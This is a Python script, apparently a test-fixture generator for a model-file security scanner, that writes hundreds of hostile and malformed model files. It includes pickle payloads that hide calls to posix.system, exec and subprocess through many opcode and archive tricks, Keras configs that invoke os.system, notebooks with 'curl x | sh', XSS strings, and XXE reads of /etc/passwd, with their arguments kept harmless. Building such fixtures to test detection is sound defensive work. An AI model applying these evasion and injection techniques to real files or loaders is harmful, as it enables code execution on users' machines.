#!/usr/bin/env python3
"""Write files that try to get past a scanner, and broken ones: hostile.py FOLDER [COUNT]

evil.<technique>.<suffix> must not be clean, nor taken for no model; broken.<technique>.<suffix> must not be clean. One technique per file. Three sources:
the hand-made cases of tests/golden/format/make_pickles.py; the samples of other formats in fuzz/corpus; and combinations made here of how a name is
spelt, how it is called, what becomes of the result and what the pickle is packed into, COUNT (400) of them, the same ones each time. Nothing is ever
loaded, and the calls are harmless or never run.
"""
import bz2
import gzip
import io
import itertools
import json
import lzma
import pathlib
import random
import struct
import sys
import tarfile
import zipfile
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests/golden/format"))
import make_pickles as pickles  # noqa: E402
from make_pickles import P2, P4, P5, b, g, npy, s, sg, u32, u64, wrapper  # noqa: E402

CASES = {}


def add(kind, name, data, suffix):
    key = f"{kind}.{name}.{suffix.lstrip('.')}"
    assert key not in CASES, key
    CASES[key] = data


# --- how a name is spelt: (module, name) -> opcodes that leave the function on the stack -------------------------------------------------

def line(text):
    return text.encode() + b"\n"


def escaped(text):
    return "".join(f"\\x{ord(c):02x}" for c in text)


NAMES = {
    "global": lambda m, n: g(m, n),
    "stack_global": lambda m, n: sg(m, n),
    "string": lambda m, n: b"S'" + line(m + "'") + b"S\"" + line(n + "\"") + b"\x93",
    "string_escaped": lambda m, n: b"S'" + line(escaped(m) + "'") + b"S'" + line(escaped(n) + "'") + b"\x93",
    "string_octal": lambda m, n: b"S'" + line("".join(f"\\{ord(c):03o}" for c in m) + "'") + s(n) + b"\x93",
    "unicode": lambda m, n: b"V" + line(m) + b"V" + line(n) + b"\x93",
    "unicode_escaped": lambda m, n: b"V" + line("".join(f"\\u{ord(c):04x}" for c in m)) + b"V" + line("".join(f"\\U{ord(c):08x}" for c in n)) + b"\x93",
    "binstring": lambda m, n: b"T" + u32(len(m)) + m.encode() + b"U" + bytes([len(n)]) + n.encode() + b"\x93",
    "binunicode": lambda m, n: b"X" + u32(len(m)) + m.encode() + b"\x8d" + u64(len(n)) + n.encode() + b"\x93",
    "memo": lambda m, n: s(n) + b"q\x07" + b"0" + s(m) + b"h\x07\x93",
    "memoize": lambda m, n: s(m) + b"\x94" + s(n) + b"\x94" + b"\x93",
    "memo_text": lambda m, n: s(m) + b"p77\n0" + s(n) + b"p78\n0g77\ng78\n\x93",
    "memo_far": lambda m, n: s(m) + b"r" + u32(4000000000) + b"0j" + u32(4000000000) + s(n) + b"\x93",
    "memo_replaced": lambda m, n: s("json") + b"q\x050" + s(m) + b"q\x050" + b"h\x05" + s(n) + b"\x93",
    "dup": lambda m, n: sg(m, n) + b"2" + b"0",
    "from_tuple_mark": lambda m, n: b"(N1" + sg(m, n),
    "through_pop": lambda m, n: s(m) + s("decoy") + b"0" + s(n) + b"\x93",
    "frame_between": lambda m, n: s(m) + b"\x95" + u64(0) + s(n) + b"\x93",
    "proto_between": lambda m, n: b"\x80\x02" + g(m, n) + b"\x80\x04",
    "dotted": lambda m, n: s("json") + s(f"decoder.{n}") + b"\x93",
    "computed": lambda m, n: pickles.call("builtins", "str", b(m.encode()), s("ascii")) + s(n) + b"\x93",
    "resolved": lambda m, n: pickles.call("pkgutil", "resolve_name", s(f"{m}:{n}")),
    "getattr": lambda m, n: pickles.call("builtins", "getattr", pickles.call("importlib", "import_module", s(m)), s(n)),
    "extension": lambda m, n: pickles.call("copyreg", "add_extension", s(m), s(n), b"K\x09") + b"0\x82\x09",
}

# --- what is called: on some list, on none, and things no list could have -------------------------------------------------------------------

TARGETS = """
posix.system nt.system subprocess.check_output os.execv pty.spawn runpy.run_path builtins.exec builtins.eval builtins.compile code.interact bdb.Bdb cProfile.run
ctypes.CDLL importlib.import_module marshal.loads pickle.loads joblib.load dill.loads cloudpickle.loads numpy.load pandas.read_pickle torch.load shelve.open
operator.attrgetter operator.methodcaller functools.partial functools.reduce itertools.starmap webbrowser.open urllib.request.urlopen socket.create_connection
shutil.rmtree io.FileIO logging.FileHandler tempfile.NamedTemporaryFile zipfile.ZipFile sqlite3.connect threading.Thread multiprocessing.Process atexit.register
weakref.finalize signal.signal gc.get_objects sys.settrace types.FunctionType typing.get_type_hints dataclasses.make_dataclass inspect.getsource timeit.timeit
numpy.f2py.compile numpy.ctypeslib.load_library numpy.testing.runstring numpy.lib.npyio.loadtxt numpy.fromfile numpy.genfromtxt numpy.DataSource numpy.memmap
pandas.eval pandas.read_csv pandas.core.frame.DataFrame.query pandas.io.common.get_handle scipy.io.loadmat scipy.LowLevelCallable scipy.optimize.minimize
sklearn.datasets.load_svmlight_file sklearn.datasets.fetch_openml sklearn.utils._testing.check_output sklearn.utils.discovery.import_module sklearn.base.clone
joblib.Memory joblib.Parallel joblib.parallel.delayed joblib.func_inspect.get_func_code torch.hub.load torch.jit.load torch.utils.data.DataLoader
torch.storage._load_from_bytes torch._utils._rebuild_wrapper_subclass torch.serialization._load keras.models.load_model keras.utils.get_file tensorflow.load_op_library
xgboost.core.Booster.load_model lightgbm.basic.Booster.model_from_string mlflow.pyfunc.load_model transformers.pipeline huggingface_hub.snapshot_download yaml.load
_io.open codecs.open encodings.search_function copyreg.pickle copyreg.constructor zoneinfo.ZoneInfo.from_file statsmodels.iolib.smpickle.load_pickle
acme_models.hooks.on_load my_pkg.module.run a.b x.y.z _private.thing somewhere.else_.Thing
""".split()

# --- how it is called: function opcodes -> a complete call that leaves one value --------------------------------------------------------------

ARGUMENT = s("true")
ODICT = sg("collections", "OrderedDict") + b")R"
CALLS = {
    "reduce": lambda f: f + ARGUMENT + b"\x85R",
    "reduce_empty": lambda f: f + b")R",
    "newobj": lambda f: f + ARGUMENT + b"\x85\x81",
    "newobj_ex": lambda f: f + ARGUMENT + b"\x85}\x92",
    "newobj_ex_keywords": lambda f: f + b")}" + s("cmd") + ARGUMENT + b"s\x92",
    "obj": lambda f: b"(" + f + ARGUMENT + b"o",
    "obj_empty": lambda f: b"(" + f + b"o",
    "newobj_function": lambda f: sg("copyreg", "__newobj__") + f + ARGUMENT + b"\x86R",
    "newobj_ex_function": lambda f: sg("copyreg", "__newobj_ex__") + f + ARGUMENT + b"\x85}\x87R",
    "reconstructor": lambda f: sg("copyreg", "_reconstructor") + f + sg("builtins", "object") + b"N\x87R",
    "map_consumed": lambda f: sg("builtins", "tuple") + sg("builtins", "map") + f + b"](" + ARGUMENT + b"e\x86\x81\x85\x81",
    "filter_consumed": lambda f: sg("builtins", "list") + sg("builtins", "filter") + f + b"](" + ARGUMENT + b"e\x86R\x85R",
    "starmap_consumed": lambda f: sg("collections", "deque") + sg("itertools", "starmap") + f + b"](" + ARGUMENT + b"\x85e\x86R\x85R",
    "partial": lambda f: sg("functools", "partial") + f + ARGUMENT + b"\x86R)R",
    "setstate": lambda f: ODICT + b"}" + s("__setstate__") + f + b"sb" + ARGUMENT + b"b",
    "append": lambda f: ODICT + b"}" + s("append") + f + b"sb" + ARGUMENT + b"a",
    "extend": lambda f: ODICT + b"}" + s("extend") + f + b"sb(" + ARGUMENT + b"e",
    "add": lambda f: ODICT + b"}" + s("add") + f + b"sb(" + ARGUMENT + b"\x90",
    "slots": lambda f: ODICT + b"N}" + s("__setstate__") + f + b"s\x86b" + ARGUMENT + b"b",
    "estimator_attribute": lambda f: sg("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + s("func") + f + b"sb",
    "factory": lambda f: sg("collections", "defaultdict") + f + b"\x85R",
    "rebuild_from_type": lambda f: sg("torch._tensor", "_rebuild_from_type_v2") + b"(" + f + sg("torch", "Tensor") + b")NtR",
    "new_index": lambda f: sg("pandas.core.indexes.base", "_new_Index") + f + b"}\x86R",
    "tree_object": lambda f: sg("sklearn.neighbors._kd_tree", "newObj") + f + b"\x85R",
    "cython": lambda f: sg("sklearn._loss._loss", "__pyx_unpickle_CyHalfBinomialLoss") + f + b"K\x01N\x87R",
    "array_class": lambda f: sg("numpy.core.multiarray", "_reconstruct") + f + b"K\x00\x85C\x01b\x87R",
    "array_type": lambda f: sg("numpy", "dtype") + f + b"\x85R",
}

ENDS = {
    "kept": b".", "dropped": b"0N.", "in_memo": b"\x940N.", "in_list": b"\x85]h\x000N.", "then_broken": b"0\xff", "without_stop": b"", "then_missing_memo": b"0h\xee.",
    "then_second_stream": b"." + P4 + b"N.", "padded": b"." + bytes(40), "key": b"}h\x00Ns0.", "then_array": b"0" + wrapper(align=False) + bytes(8) + b".",
}

# --- what it is packed into ---------------------------------------------------------------------------------------------------------------------

EPOCH = (2020, 1, 1, 0, 0, 0)


def zipped(*members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data, method)
    return out.getvalue()


def tarred(*members, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def z_file(data):
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
LEGACY_HEAD = MAGIC + b"\x80\x02M\xe9\x03." + b"\x80\x02}(X\x10\0\0\0protocol_versionM\xe9\x03X\x0d\0\0\0little_endian\x88X\x0a\0\0\0type_sizes}u."
STATE = P2 + b"}."


def torch_zip(main, *more, method=zipfile.ZIP_STORED, root="archive"):
    return zipped((f"{root}/data.pkl", main), (f"{root}/byteorder", b"little"), *more, (f"{root}/version", b"3\n"), method=method)


def keras(config):
    return zipped(("metadata.json", b'{"keras_version": "3.5.0"}'), ("config.json", config), ("model.weights.h5", b""))


SKIPPABLE = b"\x50\x2a\x4d\x18" + u32(4) + b"skip"  # a frame that readers of lz4 and zstd pass over


def gzip_fields(data):
    """A member with everything that its head may have."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(data) + packer.flush()
    return b"\x1f\x8b\x08\x1d" + u32(0) + b"\x00\xff" + b"\x03\x00abc" + b"name\0comment\0" + packed + u32(zlib.crc32(data)) + u32(len(data))


def xz_filtered(data):
    return lzma.compress(data, filters=[{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2}])


def lz4_stored(data):
    """A frame of one block that is not compressed; the checksum of its head is left wrong on purpose only in the broken ones."""
    head = b"\x60\x40"
    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 255]) + u32(len(data) | 1 << 31) + data + u32(0)


def xxh32(data):
    """XXH32 of less than 16 bytes, seed 0."""
    prime = (2654435761, 2246822519, 3266489917, 668265263, 374761393)
    h, at = (prime[4] + len(data)) & 0xffffffff, 0
    turn = lambda x, n: (x << n | x >> (32 - n)) & 0xffffffff
    for at in range(0, len(data) - 3, 4):
        h = turn((h + int.from_bytes(data[at:at + 4], "little") * prime[2]) & 0xffffffff, 17) * prime[3] & 0xffffffff
    for byte in data[len(data) // 4 * 4:]:
        h = turn((h + byte * prime[4]) & 0xffffffff, 11) * prime[0] & 0xffffffff
    h = (h ^ h >> 15) * prime[1] & 0xffffffff
    h = (h ^ h >> 13) * prime[2] & 0xffffffff
    return h ^ h >> 16


def tar_member(name, data, kind=tarfile.REGTYPE, form=tarfile.GNU_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        info = tarfile.TarInfo(name)
        info.type, info.size = kind, len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zip64(data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, archive.open("m.pkl", "w", force_zip64=True) as member:
        member.write(data)
    return out.getvalue()


def without_directory(data):
    whole = zipped(("m.pkl", data), ("n.pkl", data))
    return whole[:whole.index(b"PK\1\2")]


PACKED = {
    "gzip_fields": (gzip_fields, "pkl.gz"), "gzip_zeros_behind": (lambda d: gzip.compress(d, mtime=0) + bytes(99), "pkl.gz"), "gzip_in_gzip": (lambda d: gzip.compress(gzip.compress(d, mtime=0), mtime=0), "pkl.gz"),
    "xz_filtered": (xz_filtered, "pkl"), "xz_two": (lambda d: lzma.compress(d[:5]) + lzma.compress(d[5:]), "pkl.xz"), "xz_unchecked": (lambda d: lzma.compress(d, check=lzma.CHECK_NONE), "joblib"),
    "bzip2_two": (lambda d: bz2.compress(d[:5]) + bz2.compress(d[5:]), "pkl.bz2"), "lz4": (lz4_stored, "joblib"), "lz4_behind_frame": (lambda d: SKIPPABLE + lz4_stored(d), "pkl.lz4"), "zlib_small_window": (lambda d: (lambda p: p.compress(d) + p.flush())(zlib.compressobj(9, 8, 9)), "joblib"),
    "tar_type_of_nobody": (lambda d: tar_member("m.pkl", d, b"Z"), "pkl.tar"), "tar_long_name": (lambda d: tar_member("a" * 150 + ".pkl", d), "tar"), "tar_pax_name": (lambda d: tar_member("\u00e9" * 60 + ".pkl", d, form=tarfile.PAX_FORMAT), "tar"),
    "tar_two": (lambda d: tar_member("a.txt", b"x") + tar_member("m.pkl", d), "tar"), "tar_behind": (lambda d: tar_member("a.txt", b"x") + d, "tar"), "frame_tar_gz": (lambda d: gzip.compress(tar_member("f.pkl.tar.gz", d), mtime=0), "pkl.tar.gz"),
    "zip64": (zip64, "zip"), "zip_bzip2": (lambda d: zipped(("x/data.pkl", d), method=zipfile.ZIP_BZIP2), "pt"), "zip_lzma": (lambda d: zipped(("x/data.pkl", d), method=zipfile.ZIP_LZMA), "pt"), "zip_without_directory": (without_directory, "zip"),
    "zip_headers_in_front": (lambda d: without_directory(d) + torch_zip(STATE), "pt"), "zip_behind_letter": (lambda d: b"From: a\nTo: b\n\n" + zipped(("m.pkl", d)), "zip"), "zip_folder_called_data": (lambda d: zipped(("data.pkl/", b""), ("data.pkl/x", d)), "pt"),
    "keras_weights_npz": (lambda d: zipped(("metadata.json", b"{}"), ("config.json", b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}}'), ("model.weights.npz", zipped(("a.npy", d)))), "keras"),
    "safetensors_hole": (lambda d: (lambda h: struct.pack("<Q", len(h)) + h + d.ljust(500, b"\0") + b"x")(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[500,501]}}'), "safetensors"), "gzip_named_safetensors": (lambda d: gzip.compress(d, mtime=0), "safetensors"),
    "plain": (lambda d: d, "pkl"), "pickle": (lambda d: d, "pickle"), "joblib": (lambda d: d, "joblib"), "bin": (lambda d: d, "bin"), "pt": (lambda d: d, "pt"), "no_suffix": (lambda d: d, "model"),
    "named_safetensors": (lambda d: d, "safetensors"), "named_onnx": (lambda d: d, "onnx"), "named_npy": (lambda d: d, "npy"), "named_h5": (lambda d: d, "h5"), "named_gguf": (lambda d: d, "gguf"),
    "gzip": (lambda d: gzip.compress(d, mtime=0), "pkl.gz"), "zlib": (zlib.compress, "joblib"), "zlib_stored": (lambda d: zlib.compress(d, 0), "pkl"), "bzip2": (bz2.compress, "pkl"), "xz": (lzma.compress, "pkl"),
    "lzma": (lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "pkl"), "z_file": (z_file, "pkl"), "gzip_two_members": (lambda d: gzip.compress(d[:7], mtime=0) + gzip.compress(d[7:], mtime=0), "pkl.gz"),
    "gzip_cut_checksum": (lambda d: gzip.compress(d + b"\0" * 3000, 0, mtime=0)[:-8], "pkl.gz"),
    "torch": (torch_zip, "pt"), "torch_bin": (torch_zip, "bin"), "torch_deflated": (lambda d: torch_zip(d, method=zipfile.ZIP_DEFLATED), "pth"), "torch_second_pickle": (lambda d: torch_zip(STATE, ("archive/extra/hidden.pkl", d)), "pt"),
    "torch_storage_is_pickle": (lambda d: torch_zip(STATE, ("archive/data/0", d)), "pt"), "torch_no_suffix_member": (lambda d: torch_zip(STATE, ("archive/.data/notes", d)), "ckpt"),
    "torch_prefix": (lambda d: d + torch_zip(STATE), "pt"), "torch_behind": (lambda d: torch_zip(STATE) + d, "pt"), "torch_constants": (lambda d: torch_zip(STATE, ("archive/constants.pkl", d)), "pt"),
    "legacy_object": (lambda d: LEGACY_HEAD + d + b"\x80\x02].", "pth"), "legacy_magic": (lambda d: d + LEGACY_HEAD, "pth"), "legacy_keys": (lambda d: LEGACY_HEAD + STATE + d, "pth"),
    "legacy_tar": (lambda d: tarred(("sys_info", STATE), ("pickle", d), ("storages", P2 + b"K\x00."), ("tensors", P2 + b"K\x00.")), "pt"),
    "npy": (lambda d: npy("'|O'", "(1,)", d), "npy"), "npy_field": (lambda d: npy("[('a', '<i4'), ('b', '|O', (2,))]", "(1,)", d), "npy"), "npz": (lambda d: zipped(("a.npy", npy("'|O'", "(1,)", d))), "npz"),
    "npz_deflated": (lambda d: zipped(("a.npy", npy("'<f8'", "(1,)", bytes(8))), ("b", d), method=zipfile.ZIP_DEFLATED), "npz"), "joblib_objects": (lambda d: P4 + wrapper("O8") + d + b".", "joblib"),
    "joblib_behind_array": (lambda d: P4 + wrapper(align=False) + bytes(8) + b"0" + d[d.startswith(P4) and 2:], "joblib"), "zip": (lambda d: zipped(("model/weights.pkl", d)), "zip"), "zip_text_name": (lambda d: zipped(("README.md", d)), "zip"),
    "zip_in_zip": (lambda d: zipped(("inner.zip", zipped(("a.pkl", d)))), "zip"), "tar": (lambda d: tarred(("m.pkl", d)), "tar"), "tar_gz": (lambda d: tarred(("m/model.joblib", d), mode="w:gz"), "tar.gz"),
    "tar_xz_in_zip": (lambda d: zipped(("m.tar.xz", tarred(("a", d), mode="w:xz"))), "zip"), "gzip_in_tar": (lambda d: tarred(("m.pkl.gz", gzip.compress(d, mtime=0))), "tar"), "mar": (lambda d: zipped(("MAR-INF/MANIFEST.json", b"{}"), ("model.pt", d)), "mar"),
    "nemo": (lambda d: tarred(("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", torch_zip(d))), "nemo"), "skops_member": (lambda d: zipped(("schema.json", b"{}"), ("1.npy", d)), "skops"), "skops_itself": (lambda d: d, "skops"),
    "keras_member": (lambda d: keras(b"{}")[:0] + zipped(("config.json", b"{}"), ("assets/vocabulary.txt", d)), "keras"), "zip_wrong_crc": (lambda d: zipped(("a.pkl", d)).replace(struct.pack("<I", zlib.crc32(d)), b"abcd"), "zip"),
    "zip_duplicate": (lambda d: zipped(("a.pkl", d), ("b.pkl", P4 + b"N.")).replace(b"b.pkl", b"a.pkl"), "zip"), "zip_encrypted_flag": (lambda d: zipped(("a.pkl", d)).replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0").replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"), "pt"),
    "zip_other_local_name": (lambda d: torch_zip(d).replace(b"archive/data.pkl", b"archive/data.xyz", 1), "pt"), "safetensors_rest": (lambda d: struct.pack("<Q", 2) + b"{}" + d, "safetensors"),
    "onnx_rest": (lambda d: b"\x08\x07\x12\x04test\x3a\x00" + d, "onnx"), "tar_name_is_pickle": (lambda d: tarred(("cposix\nsystem\n(S'true'\ntR.", d)), "tar"),
}


def reaches(spelling, m, n):
    """Opcodes of a name, or None where this way cannot spell it."""
    if spelling in ("binstring",) and len(n) > 255 or spelling == "dotted" and "." in n:
        return None
    return NAMES[spelling](m, n)


def combinations(count):
    """Each part at least once, then a deterministic draw of the rest."""
    rng = random.Random(20261125)
    parts = [list(NAMES), TARGETS, list(CALLS), list(ENDS), list(PACKED)]
    rounds = itertools.count()
    made = 0
    decks = [[] for _ in parts]
    for _ in rounds:
        if made >= count:
            return
        chosen = []
        for deck, part in zip(decks, parts):
            if not deck:
                deck.extend(rng.sample(part, len(part)))
            chosen.append(deck.pop())
        spelling, target, how, end, packing = chosen
        module, _, name = target.rpartition(".")
        function = reaches(spelling, module, name)
        if function is None or (target, how) == ("numpy.memmap", "array_class"):  # which opens no file
            continue
        pack, suffix = PACKED[packing]
        protocol = P5 if made % 5 == 0 else P4
        data = protocol + b"N\x940" + CALLS[how](function) + ENDS[end]
        add("evil", f"{made:03d}-{spelling}-{target}-{how}-{end}-{packing}", pack(data), suffix)
        made += 1


# --- one technique each -------------------------------------------------------------------------------------------------------------------------

LAMBDA = b'{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wE="}}}}'


def formats():
    """Hostile files of formats that are no pickle."""
    add("evil", "keras_lambda", keras(b'{"class_name": "Sequential", "module": "keras", "config": {"layers": [' + LAMBDA + b"]}}"), "keras")
    add("evil", "keras_module", keras(b'{"class_name": "system", "module": "os", "config": {}, "registered_name": null}'), "keras")
    add("evil", "keras_function", keras(b'{"class_name": "function", "module": "keras.utils", "config": "get_file", "registered_name": "get_file"}'), "keras")
    add("evil", "keras_wrapper", keras(b'{"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": "aGk="}}'), "keras")
    add("evil", "executable_named_model", b"\x7fELF" + bytes(60), "pt")
    add("evil", "llamafile", b"MZqFpD='\n" + bytes(64) + zipped(("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0))), "gguf")
    add("evil", "safetensors_overlap", struct.pack("<Q", 120) + (b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}').ljust(120) + bytes(6), "safetensors")
    layer = lambda **config: b'{"class_name": "Sequential", "module": "keras", "config": {"layers": [' + json.dumps(config).encode() + b"]}}"
    code = {"class_name": "__lambda__", "config": {"code": "4wE="}}
    for name, config in {
        "nested_model": layer(module="keras.models", class_name="Functional", config={"layers": [{"class_name": "Lambda", "config": {"function": code}}]}),
        "time_distributed": layer(class_name="TimeDistributed", module="keras.layers", config={"layer": {"class_name": "Lambda", "config": {"function": code}}}),
        "optimizer": b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}, "compile_config": {"optimizer": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}}}}',
        "loss": b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}, "compile_config": {"loss": {"module": "builtins", "class_name": "function", "config": "eval"}}}',
        "enable_unsafe": layer(class_name="Dense", module="keras.layers", config={"activation": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}),
        "vocabulary": layer(class_name="StringLookup", module="keras.layers", config={"vocabulary": "/etc/passwd"}), "weights_of_words": layer(class_name="TextVectorization", module="keras.layers", config={"vocabulary": ["a"], "idf_weights": "http://x/y"}),
        "escaped": LAMBDA.replace(b"Lambda", b"\\u004cambda"), "other_text": ("\ufeff" + LAMBDA.decode()).encode("utf-16"), "not_a_number": b'{"class_name": "Lambda", "config": {"a": NaN}}'}.items():
        add("evil", f"keras_{name}", keras(config), "keras")
    for name, text in {"merged": "x: &a {loader_module: mine}\nflavors:\n  python_function:\n    <<: *a\n", "quoted": 'flavors:\n  python_function:\n    "loader_module": "m\\x69ne"\n', "twice": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: mine\n",
                       "code": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n"}.items():
        add("evil", f"mlflow_{name}", text.encode(), "MLmodel")
    for name, source in {"assigned": "x = !curl http://x/y", "magic": "%%script bash\ncurl x | sh", "shell_object": "get_ipython().system('curl x | sh')", "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "started": "import subprocess as s\ns.run(['curl', 'x'])"}.items():
        add("evil", f"notebook_{name}", json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "ipynb")
    for name, output in {"handler": {"text/html": "<img src=x onerror=alert(1)>"}, "drawing": {"image/svg+xml": "<svg onload=alert(1)><script>1</script></svg>"}, "frame": {"text/html": ["<iframe src='javascript:alert(1)'></iframe>"]}}.items():
        add("evil", f"notebook_output_{name}", json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "source": "x", "outputs": [{"output_type": "display_data", "metadata": {}, "data": output}], "execution_count": None}],
                                                           "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "ipynb")
    entity = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header>&x;</Header></PMML>'
    add("evil", "pmml_other_text", entity.encode("utf-16"), "pmml")
    add("evil", "pmml_inclusion", b'<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header/><xi:include href="file:///etc/passwd"/></PMML>', "pmml")
    add("evil", "tensorflow_text", b'node { name: "a" op: "\\120yFunc" }\nnode { name: "b" op: "NoOp" }\nversions { producer: 1000 }\n', "pbtxt")
    add("evil", "program_beside_model", zipped(("m.pkl", P4 + b"N."), ("lib/x", b"\x7fELF" + bytes(60))), "zip")
    add("evil", "seven_zip_named_pt", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), "pt")
    add("evil", "rar_named_pkl", b"Rar!\x1a\x07\x01\0" + bytes(20), "pkl")


def malformed():
    """Broken files under the names of models."""
    whole = P4 + wrapper(align=False) + bytes(8) + b"."
    for cut in range(1, len(whole), 11):
        add("broken", f"joblib_cut_at_{cut:03d}", whole[:cut], "joblib")
    array = npy("'<f8'", "(4,)", bytes(32))
    for cut in (5, 9, 20, 60, len(array) - 1):
        add("broken", f"npy_cut_at_{cut}", array[:cut], "npy")
    packed = zlib.compress(whole)
    for cut in (3, len(packed) // 2, len(packed) - 1):
        add("broken", f"zlib_cut_at_{cut}", packed[:cut], "joblib")
    archive = torch_zip(STATE)
    for cut in (30, len(archive) // 2, len(archive) - 1):
        add("broken", f"torch_cut_at_{cut}", archive[:cut], "pt")
    for opcode in range(256):
        if opcode % 12 == 0:
            add("broken", f"only_opcode_{opcode:02x}", P4 + bytes([opcode]), "pkl")
    for name, suffix in (("text", "pkl"), ("text", "pt"), ("text", "onnx"), ("text", "h5"), ("text", "keras"), ("text", "gguf"), ("text", "npz"), ("text", "joblib"), ("text", "safetensors"), ("text", "skops"), ("text", "tflite")):
        add("broken", name, b"this is no model\n" * 9, suffix)
    add("broken", "safetensors_length", struct.pack("<Q", 1 << 40) + b"{}", "safetensors")
    add("broken", "gguf_counts", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60), "gguf")
    add("broken", "h5_header_only", b"\x89HDF\r\n\x1a\n" + bytes(20), "h5")
    for name, data in {"list_as_key": P4 + b"}]Ns.", "set_of_dicts": P4 + b"\x8f(}\x90.", "no_utf8": P4 + b"\x8c\x02\xc3\x28.", "memo_negative": b"Np-1\n.", "memo_missing": P4 + b"h\x63.", "number": b"I12x\n.", "quote": b"S'abc\n.", "length_negative": P2 + b"T\xff\xff\xff\xff.",
                       "length_huge": P4 + b"\x8e" + u64(1 << 62) + b".", "protocol": b"\x80\x09N.", "names_are_numbers": P4 + b"K\x01K\x02\x93.", "buffer": P5 + b"\x97.", "frame": P4 + b"\x95" + u64(99) + b"N."}.items():
        add("broken", f"pickle_{name}", data, "pkl")
    for name, header in {"shape_number": "{'descr': '<f8', 'fortran_order': False, 'shape': 3}", "order_number": "{'descr': '<f8', 'fortran_order': 0, 'shape': (3,)}", "negative": "{'descr': '<f8', 'fortran_order': False, 'shape': (-3,)}",
                         "sum": "{'descr': '<f8', 'fortran_order': False, 'shape': (1+2,)}", "field_more": "{'descr': '<f8', 'fortran_order': False, 'shape': (3,), 'x': 1}", "no_shape": "{'descr': '<f8', 'fortran_order': False}", "type": "{'descr': '<q9', 'fortran_order': False, 'shape': (3,)}"}.items():
        text = header.encode() + b"\n"
        add("broken", f"npy_{name}", b"\x93NUMPY\x01\0" + struct.pack("<H", len(text)) + text + bytes(24), "npy")
    for name, text in {"importances": "feature_importances:\na=", "parameters": "feature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\n", "categories": 'feature_importances:\na=1\n\npandas_categorical:[["a", '}.items():
        add("broken", f"lightgbm_{name}", ("tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\nfeature_infos=[0:1]\ntree_sizes=\n\nend of trees\n\n" + text).encode(), "txt")
    add("broken", "onnx_without_operators", b"\x08\x07\x12\x04test\x3a\x03\x12\x01g", "onnx")
    add("broken", "onnx_without_graph", b"\x08\x07\x12\x04test\x42\x02\x10\x11", "onnx")
    add("broken", "lz4_checksum", lz4_stored(P4 + b"N.").replace(b"\x60\x40", b"\x60\x70", 1), "joblib")
    add("broken", "zeros", bytes(1000), "pkl")
    add("broken", "deep_marks", P4 + b"(" * 1000, "pkl")


def golden():
    for name, (data, _) in pickles.build().items():
        kind, rest = name.split(".", 1)
        if kind in ("evil", "broken"):
            stem, _, suffix = rest.partition(".")
            add(kind, f"golden-{stem}", data, suffix)


def samples():
    """What other engineers' generators left in fuzz/corpus: the verdict is the first part of the name."""
    for path in sorted((ROOT / "fuzz/corpus").glob("*/*")):
        verdict, _, rest = path.name.partition(".")
        kind = {"unsafe": "evil", "suspicious": "evil", "unparseable": "broken"}.get(verdict)
        if kind and path.is_file() and path.stat().st_size < 1 << 20:
            stem, _, suffix = rest.rpartition(".")
            add(kind, f"{path.parent.name}-{stem}", path.read_bytes(), suffix)


def build(count=400):
    CASES.clear()
    pickles.CASES.clear()
    golden()
    combinations(count)
    formats()
    malformed()
    samples()
    return CASES


def main():
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in sorted(build(int(sys.argv[2]) if len(sys.argv) > 2 else 400).items()):
        (folder / name).write_bytes(data)
    kinds = [name.split(".")[0] for name in CASES]
    print(f"{kinds.count('evil')} evil and {kinds.count('broken')} broken files in {folder}")


if __name__ == "__main__":
